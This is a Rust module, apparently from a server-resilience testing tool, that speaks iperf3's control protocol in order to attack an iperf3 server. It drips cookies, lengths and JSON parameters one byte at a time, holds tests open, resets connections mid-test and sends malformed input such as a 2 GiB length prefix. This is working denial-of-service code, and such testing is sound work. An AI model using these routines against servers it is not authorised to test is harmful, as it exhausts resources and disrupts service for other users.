//! The part of iperf3's control protocol that the attacks need: a 37-byte cookie, one-byte states, JSON with a
//! length prefix.

use std::io::{self, Write};
use std::net::TcpStream;
use std::time::Duration;

use landspeed_stats::SplitMix64;

use super::connect::{Action, read_array, reset, unexpected};
use super::hold::{HeldTest, SendScript};
use super::landspeed::{HTTP, random_bytes};

const TEST_START: u8 = 1;
const TEST_RUNNING: u8 = 2;
const TEST_END: u8 = 4;
const PARAM_EXCHANGE: u8 = 9;
const CREATE_STREAMS: u8 = 10;
const EXCHANGE_RESULTS: u8 = 13;

/// Announced length of a text sent byte by byte, bytes: iperf3 accepts at most 8 KiB.
const ANNOUNCED_BYTES: u32 = 4_000;
/// Interval between the bytes of a slowly sent text.
const BYTE_INTERVAL: Duration = Duration::from_millis(50);
/// Interval between the bytes of a slowly sent cookie or length.
const SLOW_BYTE_INTERVAL: Duration = Duration::from_millis(500);

fn cookie(number: u64) -> [u8; 37] {
    let mut cookie = [0; 37];
    for (letter, digit) in cookie.iter_mut().zip(format!("{number:036}").bytes()) {
        *letter = digit;
    }
    cookie
}

fn expect(stream: &mut TcpStream, state: u8) -> io::Result<()> {
    match read_array(stream)? {
        [found] if found == state => Ok(()),
        [found] => Err(unexpected(&format!("state {} instead of {state}", found.cast_signed()))),
    }
}

/// Sends the cookie and waits until the server accepts this client's test.
fn connect_control(action: &Action) -> io::Result<TcpStream> {
    let mut control = action.connect_and_send(&cookie(action.number))?;
    expect(&mut control, PARAM_EXCHANGE)?;
    Ok(control)
}

/// Starts a TCP test of this duration; returns its control and data connections.
fn started(action: &Action, seconds: u32) -> io::Result<(TcpStream, TcpStream)> {
    let mut control = connect_control(action)?;
    let wanted = format!(
        "{{\"tcp\":true,\"omit\":0,\"time\":{seconds},\"num\":0,\"blockcount\":0,\"parallel\":1,\"len\":131072,\
         \"pacing_timer\":1000,\"client_version\":\"3.12\"}}"
    );
    control.write_all(&(wanted.len() as u32).to_be_bytes())?;
    control.write_all(wanted.as_bytes())?;
    expect(&mut control, CREATE_STREAMS)?;
    let data = action.connect_and_send(&cookie(action.number))?;
    expect(&mut control, TEST_START)?;
    expect(&mut control, TEST_RUNNING)?;
    Ok((control, data))
}

/// Sends the cookie and then nothing.
pub fn silent_in_greeting(action: &Action) -> io::Result<HeldTest> {
    Ok(HeldTest::silent(action.connect_and_send(&cookie(action.number))?))
}

/// Sends the cookie one byte at a time.
pub fn drip_cookie(action: &Action) -> io::Result<HeldTest> {
    Ok(HeldTest::with_script(
        vec![action.connect()?],
        SendScript::drip(SLOW_BYTE_INTERVAL, cookie(action.number).to_vec()),
    ))
}

/// Sends the length of the parameters, and then the parameters, one byte at a time.
pub fn drip_length(action: &Action) -> io::Result<HeldTest> {
    let script = ANNOUNCED_BYTES.to_be_bytes().to_vec();
    Ok(HeldTest::with_script(vec![connect_control(action)?], SendScript::drip(SLOW_BYTE_INTERVAL, script)))
}

/// Sends the parameters one byte at a time.
pub fn drip_parameters(action: &Action) -> io::Result<HeldTest> {
    let mut control = connect_control(action)?;
    control.write_all(&ANNOUNCED_BYTES.to_be_bytes())?;
    Ok(HeldTest::with_script(vec![control], SendScript::drip(BYTE_INTERVAL, b"{".to_vec())))
}

/// Ends a test and sends its results one byte at a time.
pub fn drip_results(action: &Action) -> io::Result<HeldTest> {
    // iperf3 closes the data connection itself; only the control connection shows whether the server still holds
    // the test.
    let (mut control, _data) = started(action, 1)?;
    control.write_all(&[TEST_END])?;
    expect(&mut control, EXCHANGE_RESULTS)?;
    control.write_all(&ANNOUNCED_BYTES.to_be_bytes())?;
    Ok(HeldTest::with_script(vec![control], SendScript::drip(BYTE_INTERVAL, b"{".to_vec())))
}

/// Starts a test of one hour and sends one byte of data per second.
pub fn slow_test(action: &Action) -> io::Result<HeldTest> {
    let (control, data) = started(action, 3600)?;
    Ok(HeldTest::with_script(vec![data, control], SendScript::repeat(Duration::from_secs(1), vec![0])))
}

/// Starts a test and disconnects: after the cookie, after the start, or in the middle of its data.
pub fn vanish(action: &Action) -> io::Result<()> {
    if action.number.is_multiple_of(3) {
        reset(connect_control(action)?);
        return Ok(());
    }
    let (control, mut data) = started(action, 10)?;
    if action.number % 3 == 2 {
        data.write_all(&[0; 16 * 1024])?;
    }
    reset(data);
    reset(control);
    Ok(())
}

/// Sends data that violates the protocol: random bytes, an HTTP request, a length of 2 GiB, text that is not
/// JSON.
pub fn junk(action: &Action) -> io::Result<()> {
    match action.number % 4 {
        0 => drop(action.connect_and_send(&random_bytes(action.number, 4096))?),
        1 => drop(action.connect_and_send(HTTP)?),
        2 => drop(connect_control(action)?.write_all(&0x7fff_ffff_u32.to_be_bytes())),
        _ => drop(connect_control(action)?.write_all(&[0, 0, 0, 2, b'{', 0xff])),
    }
    Ok(())
}

/// Fills a datagram: random bytes, or the message with which an iperf3 UDP stream starts.
pub fn datagram(random: &mut SplitMix64, bytes: &mut Vec<u8>) {
    bytes.clear();
    if random.below(2) == 0 {
        bytes.extend_from_slice(b"9876");
    } else {
        let length = 1 + random.below(1400);
        let word = random.below(u64::MAX);
        bytes.extend((0..length).map(|at| word.rotate_left((at % 64) as u32) as u8));
    }
}
